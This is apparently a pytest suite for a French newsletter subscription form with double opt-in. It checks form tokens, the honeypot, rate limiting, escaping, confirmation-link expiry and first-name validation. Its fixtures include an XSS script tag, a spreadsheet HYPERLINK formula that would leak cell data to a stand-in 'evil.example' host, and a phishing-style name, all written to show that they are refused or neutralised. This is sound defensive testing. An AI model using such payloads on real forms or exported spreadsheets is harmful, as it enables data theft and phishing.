"""The subscribe form and double opt-in over real HTTP: form token, honeypot, rate limit, and
the same answer whatever the address."""

from __future__ import annotations

import csv
import email
import email.policy
import mailbox
import re
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from sqlalchemy import update
from sqlmodel import Session, col, select

from campaign.audience.subscriptions import (
    CONFIRM,
    InvalidFirstName,
    clean_first_name,
    confirm_token,
)
from campaign.models import MailingList, Membership, Subscriber, SubscriberStatus
from campaign.web.subscribe import MIN_ANSWER_SECONDS

XSS = '"><script>alert(1)</script>'


def _token(page: str) -> str:
    return re.search(r'name="jeton" value="([^"]+)"', page).group(1)


def _submit(live, email_address: str, first_name: str = "", **extra: str):
    form = live.get("/inscription" + extra.pop("query", ""))
    assert form.status_code == 200
    data = {"email": email_address, "prenom": first_name, "jeton": _token(form.text), **extra}
    return live.post("/inscription", data=data)


def _outbox(live, count: int, timeout: float = 10.0) -> list[email.message.EmailMessage]:
    """The messages of the outbox once there are ``count`` (the email leaves after the page)."""
    folder = Path(live.settings.mail.outbox_dir)
    deadline = time.monotonic() + timeout
    while True:
        found = []
        # The outbox creates tmp/, new/ and cur/ one after the other: read once all exist.
        if all((folder / part).is_dir() for part in ("tmp", "new", "cur")):
            found = [
                email.message_from_bytes(bytes(m), policy=email.policy.default)
                for m in mailbox.Maildir(folder, create=False)
            ]
        if len(found) >= count or time.monotonic() > deadline:
            return found
        time.sleep(0.05)


def _first_name(live, address: str) -> str:
    with Session(live.engine) as session:
        return session.exec(select(Subscriber.first_name).where(Subscriber.email == address)).one()


def _confirm_path(message) -> str:
    text = message.get_body(("plain",)).get_content()
    url = re.search(r"(http://\S+/confirmation/\S+)", text).group(1)
    return urlsplit(url).path


def test_subscribing_then_confirming_makes_an_active_subscriber(live, kit) -> None:
    form = live.get("/inscription")
    assert "Recevoir la lettre d'information" in form.text
    assert "frame-ancestors *" in form.headers["Content-Security-Policy"]  # embeddable
    assert "X-Frame-Options" not in form.headers
    answer = _submit(live, "Lea@Example.org", "Léa")
    assert answer.status_code == 200
    assert "Merci Léa" in answer.text
    lea = kit.subscriber("lea@example.org")
    assert lea.status == SubscriberStatus.pending and lea.first_name == "Léa"
    first = kit.consent("lea@example.org")
    # As for imports: one line for the person, one for the list they join.
    assert [(line.action, line.method) for line in first] == [("subscribed", "form")] * 2
    assert [line.list_id is not None for line in first] == [False, True]
    assert "Newsletter nationale" in first[0].source and "127.0.0.0/24" in first[0].source

    (message,) = _outbox(live, 1)
    assert message["To"] == "lea@example.org"
    assert "Confirmez" in message["Subject"]
    path = _confirm_path(message)
    page = live.get(path)  # a link scanner's GET confirms nothing
    assert "Je confirme mon inscription" in page.text
    assert kit.subscriber("lea@example.org").status == SubscriberStatus.pending
    done = live.post(path)
    assert done.status_code == 200 and "Inscription confirmée" in done.text
    assert kit.subscriber("lea@example.org").status == SubscriberStatus.active
    actions = [(line.action, line.method) for line in kit.consent("lea@example.org")]
    assert actions == [("subscribed", "form"), ("subscribed", "form"), ("confirmed", "link")]
    with Session(live.engine) as session:
        lists = session.exec(
            select(MailingList.name)
            .join(Membership, col(Membership.list_id) == col(MailingList.id))
            .where(Membership.subscriber_id == lea.id)
        ).all()
    assert lists == ["Newsletter nationale"]


def test_the_answer_never_tells_whether_an_address_is_known(live, kit) -> None:
    sent = kit.send(live)  # anne and paul: active subscribers of a list
    with Session(live.engine) as session:
        session.exec(
            update(Subscriber)
            .where(col(Subscriber.email) == "paul@example.org")
            .values(status=SubscriberStatus.bounced)
        )
        session.commit()
    assert sent.newsletter_id
    _submit(live, "warm-up@example.org")  # the first answer of a process pays one-off costs
    answers = {}
    timings = {}
    for address in ("new@example.org", "anne@example.org", "paul@example.org"):
        started = time.monotonic()
        answers[address] = _submit(live, address)
        timings[address] = time.monotonic() - started
    texts = {answer.text for answer in answers.values()}
    assert len(texts) == 1 and {a.status_code for a in answers.values()} == {200}
    assert min(timings.values()) >= MIN_ANSWER_SECONDS, timings  # every answer is paced
    assert max(timings.values()) - min(timings.values()) < 0.5, timings
    # Known addresses are left as they were.
    assert kit.subscriber("anne@example.org").status == SubscriberStatus.active
    assert kit.subscriber("paul@example.org").status == SubscriberStatus.bounced
    messages = _outbox(live, 3, timeout=3)
    # New: a confirmation. Anne (active, not on this list): one to add the list. Paul: none.
    assert sorted(m["To"] for m in messages) == [
        "anne@example.org",
        "new@example.org",
        "warm-up@example.org",
    ]


def test_an_unsubscribed_person_is_reactivated_only_by_their_own_confirmation(live, kit) -> None:
    sent = kit.send(live)
    live.post(f"/u/{live.signer.sign('unsubscribe', sent.deliveries['Anne'])}")
    assert kit.subscriber("anne@example.org").status == SubscriberStatus.unsubscribed
    _submit(live, "anne@example.org", "Someone Else")
    anne = kit.subscriber("anne@example.org")
    assert anne.status == SubscriberStatus.unsubscribed  # not silently
    assert anne.first_name == "Anne"  # the form never changes a known person
    (message,) = _outbox(live, 1)
    done = live.post(_confirm_path(message))
    assert "Inscription confirmée" in done.text
    assert kit.subscriber("anne@example.org").status == SubscriberStatus.active
    assert kit.consent("anne@example.org")[-2].action == "resubscribed"


def test_a_post_without_a_valid_form_token_writes_nothing(live, kit) -> None:
    form = live.get("/inscription")
    token = _token(form.text)
    for bad in ("", token[:-2], token[:4] + ("A" if token[4] != "A" else "B") + token[5:]):
        answer = live.post("/inscription", data={"email": "bot@example.org", "jeton": bad})
        assert answer.status_code == 400
        assert "Le formulaire a expiré" in answer.text
    # An old form is refused too.
    old = live.web.forms.issue(0, now=time.time() - 48 * 3600)
    answer = live.post("/inscription", data={"email": "bot@example.org", "jeton": old})
    assert answer.status_code == 400
    with Session(live.engine) as session:
        assert session.exec(select(Subscriber)).all() == []
    assert _outbox(live, 1, timeout=0.5) == []


def test_a_filled_honeypot_gets_the_thank_you_page_and_nothing_else(live, kit) -> None:
    answer = _submit(live, "robot@example.org", "Robot", site_web="https://spam.example")
    assert answer.status_code == 200 and "Merci Robot" in answer.text
    with Session(live.engine) as session:
        assert session.exec(select(Subscriber)).all() == []
    assert _outbox(live, 1, timeout=0.5) == []


def test_the_rate_limit_stops_one_address_not_the_others(make_live, kit) -> None:
    def strict(settings) -> None:
        settings.subscribe.rate_limit = 3
        settings.web.trusted_proxy_depth = 1  # so the test can speak for two clients

    live = make_live(strict)
    statuses = []
    for number in range(5):
        form = live.get("/inscription")
        answer = live.post(
            "/inscription",
            data={"email": f"p{number}@example.org", "jeton": _token(form.text)},
            headers={"User-Agent": kit.browser, "X-Forwarded-For": "198.51.100.7"},
        )
        statuses.append(answer.status_code)
    assert statuses == [200, 200, 200, 429, 429]
    assert "Trop de demandes" in answer.text
    other = live.post(
        "/inscription",
        data={"email": "other@example.org", "jeton": _token(live.get("/inscription").text)},
        headers={"User-Agent": kit.browser, "X-Forwarded-For": "203.0.113.9"},
    )
    assert other.status_code == 200
    with Session(live.engine) as session:
        emails = set(session.exec(select(Subscriber.email)).all())
    assert emails == {"p0@example.org", "p1@example.org", "p2@example.org", "other@example.org"}


def test_an_invalid_address_shows_the_form_again_escaped(live, kit) -> None:
    answer = _submit(live, f"pas une adresse{XSS}", XSS)
    assert answer.status_code == 400
    assert "n'est pas valable" in answer.text
    assert "<script>" not in answer.text and "&lt;script&gt;" in answer.text
    refused = _submit(live, "ok@example.org", XSS)  # not a first name: shown again, escaped
    assert refused.status_code == 400 and "Ce prénom n'est pas accepté" in refused.text
    assert "<script>" not in refused.text and "&lt;script&gt;" in refused.text
    thanks = _submit(live, "robot@example.org", XSS, site_web="x")  # a robot's thank-you page
    assert "<script>" not in thanks.text and "&lt;script&gt;" in thanks.text


def test_a_list_is_chosen_by_a_configured_name_only(make_live, kit) -> None:
    def two_lists(settings) -> None:
        settings.subscribe.lists = ["Newsletter nationale", "Presse"]

    live = make_live(two_lists)
    _submit(live, "journaliste@example.org", query="?liste=Presse")
    _submit(live, "curieux@example.org", query="?liste=Listes%20secr%C3%A8tes")
    with Session(live.engine) as session:
        rows = session.exec(
            select(Subscriber.email, MailingList.name)
            .join(Membership, col(Membership.subscriber_id) == col(Subscriber.id))
            .join(MailingList, col(MailingList.id) == col(Membership.list_id))
        ).all()
    assert sorted(rows) == [
        ("curieux@example.org", "Newsletter nationale"),
        ("journaliste@example.org", "Presse"),
    ]


def test_confirmation_links_expire_and_forged_ones_are_not_found(live, kit) -> None:
    _submit(live, "late@example.org")
    late = kit.subscriber("late@example.org")
    with Session(live.engine) as session:
        list_id = session.exec(select(MailingList.id)).one()
    old = confirm_token(live.signer, late.id, list_id, time.time() - 30 * 86400)
    answer = live.post(f"/confirmation/{old}")
    assert answer.status_code == 200 and "Ce lien a expiré" in answer.text
    assert kit.subscriber("late@example.org").status == SubscriberStatus.pending
    forged = old[:3] + ("A" if old[3] != "A" else "B") + old[4:]
    assert live.post(f"/confirmation/{forged}").status_code == 404
    assert kit.subscriber("late@example.org").status == SubscriberStatus.pending


def test_a_first_name_typed_as_a_formula_is_refused_or_exported_as_text(live, cli, workdir):
    planted = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    answer = _submit(live, "mallory@example.org", planted)
    assert answer.status_code == 400  # the form takes names only
    # One that came another way (an old import, a typed list) is exported as text.
    added = cli("subscribers", "add", "mallory@example.org", "--first-name", planted)
    assert added.exit_code == 0, added.stderr
    assert _first_name(live, "mallory@example.org") == planted  # kept as typed
    result = cli("subscribers", "export", "abonnes.csv")
    assert result.exit_code == 0, result.stderr
    with (workdir / "abonnes.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = csv.DictReader(handle, delimiter=";")
    assert row["email"] == "mallory@example.org"
    assert row["first_name"] == "'" + planted  # Excel shows it as text, never runs it


PHISHING = "Léa, votre compte expire : http://banque-en-ligne.example/connexion"


def test_a_first_name_that_is_not_one_is_refused_and_nothing_is_sent(make_live, kit) -> None:
    # Anyone may type any address: the first name must not carry their text into our email.
    live = make_live(lambda settings: setattr(settings.subscribe, "rate_limit", 20))
    for name in (PHISHING, "A" * 5000, "Léa www.exemple.com", "Léa\x00\u202e", "lea@exemple.org"):
        answer = _submit(live, "victime@example.org", name)
        assert answer.status_code == 400, name
        assert "Ce prénom n'est pas accepté" in answer.text
        assert 'aria-describedby="prenom-erreur"' in answer.text
        assert "Merci" not in answer.text
    with Session(live.engine) as session:
        assert session.exec(select(Subscriber)).all() == []
    assert _outbox(live, 1, timeout=0.5) == []
    # A name, though, with its accents, hyphens, apostrophe and initials, is taken.
    answer = _submit(live, "victime@example.org", "  Marie-Thérèse d’Arc J.-P.  ")
    assert answer.status_code == 200 and "Merci Marie-Thérèse d’Arc J.-P." in answer.text
    assert kit.subscriber("victime@example.org").first_name == "Marie-Thérèse d’Arc J.-P."
    (message,) = _outbox(live, 1)
    assert "Bonjour Marie-Thérèse d’Arc J.-P.," in message.get_body(("plain",)).get_content()


@pytest.mark.parametrize(
    "name",
    ["exemple.com", "Léa http://x", "Léa/Paul", "<b>Léa</b>", "Léa 06 12", "Léa\u200b", "x" * 61],
)
def test_clean_first_name_refuses_what_is_not_a_name(name: str) -> None:
    with pytest.raises(InvalidFirstName):
        clean_first_name(name)


def test_a_stored_name_that_is_not_one_is_left_out_of_the_confirmation_email(live, kit) -> None:
    with Session(live.engine) as session:
        session.add(
            Subscriber(
                email="importe@example.org",
                first_name="Paul www.exemple.com",
                status=SubscriberStatus.pending,
            )
        )
        session.commit()
    assert _submit(live, "importe@example.org").status_code == 200
    (message,) = _outbox(live, 1)
    text = message.get_body(("plain",)).get_content()
    assert text.startswith("Bonjour,") and "exemple.com" not in text
    assert "exemple.com" not in message.get_body(("html",)).get_content()


def test_a_confirmation_link_acts_once_and_never_after_a_later_unsubscription(live, kit) -> None:
    sent = kit.send(live)
    unsubscribe_path = f"/u/{live.signer.sign('unsubscribe', sent.deliveries['Anne'])}"
    live.post(unsubscribe_path)
    _submit(live, "anne@example.org")  # she changes her mind: a confirmation link
    (message,) = _outbox(live, 1)
    path = _confirm_path(message)
    assert "Inscription confirmée" in live.post(path).text
    assert kit.subscriber("anne@example.org").status == SubscriberStatus.active
    again = live.post(path)  # the same link a second time changes nothing more
    assert again.status_code == 200 and "Ce lien a déjà servi" in again.text

    live.post(unsubscribe_path)  # later, she leaves again
    assert kit.subscriber("anne@example.org").status == SubscriberStatus.unsubscribed
    logged = len(kit.consent("anne@example.org"))
    page = live.get(path)  # whoever has the old email: no button any more
    assert "Ce lien a déjà servi" in page.text and "Je confirme" not in page.text
    answer = live.post(path)
    assert answer.status_code == 200 and "Ce lien a déjà servi" in answer.text
    assert "Inscription confirmée" not in answer.text
    assert kit.subscriber("anne@example.org").status == SubscriberStatus.unsubscribed
    assert len(kit.consent("anne@example.org")) == logged

    # A link issued after that (a new request through the form) works, once.
    with Session(live.engine) as session:
        list_id = session.exec(
            select(MailingList.id).where(MailingList.name == "Newsletter nationale")
        ).one()
    anne = kit.subscriber("anne@example.org")
    fresh = f"/confirmation/{confirm_token(live.signer, anne.id, list_id, time.time())}"
    assert "Inscription confirmée" in live.post(fresh).text
    assert kit.subscriber("anne@example.org").status == SubscriberStatus.active


def test_a_link_sent_before_links_were_single_use_still_confirms_once(live, kit) -> None:
    _submit(live, "avant@example.org")
    person = kit.subscriber("avant@example.org")
    with Session(live.engine) as session:
        list_id = session.exec(select(MailingList.id)).one()
    older = live.signer.sign(CONFIRM, person.id, list_id, int(time.time() // 86400))
    assert "Inscription confirmée" in live.post(f"/confirmation/{older}").text
    assert kit.subscriber("avant@example.org").status == SubscriberStatus.active
    assert "Ce lien a déjà servi" in live.post(f"/confirmation/{older}").text


def test_a_signed_confirmation_token_from_the_future_is_no_link(live, kit) -> None:
    """Found by the fuzz: a day number past year 9999 ended in a server error."""
    from campaign.tracking.tokens import Signer
    from tests.conftest import TEST_SECRET_KEY

    signer = Signer([TEST_SECRET_KEY])
    for token in (
        signer.sign("confirm", 1_000_000, 1_000_000, 2_932_897),  # day 2,932,897: year 10000
        signer.sign("confirm-once", 1, 1, 2**60),
        signer.sign("confirm-once", 2**40, 1, 1_700_000_000_000),  # an id no row can have
    ):
        for method in (live.get, live.post):
            assert method(f"/confirmation/{token}").status_code == 404
